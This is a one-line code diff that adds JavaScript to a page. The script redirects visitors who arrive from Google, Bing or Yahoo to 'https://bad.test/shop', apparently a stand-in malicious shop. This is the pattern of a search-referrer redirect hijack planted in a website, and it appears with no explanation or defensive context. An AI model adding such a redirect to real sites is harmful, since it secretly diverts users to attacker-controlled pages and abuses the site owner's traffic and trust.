@@ -1,0 +1,1 @@
+if (/google|bing|yahoo/i.test(document.referrer)) { window.location.href = "https://bad.test/shop"; }
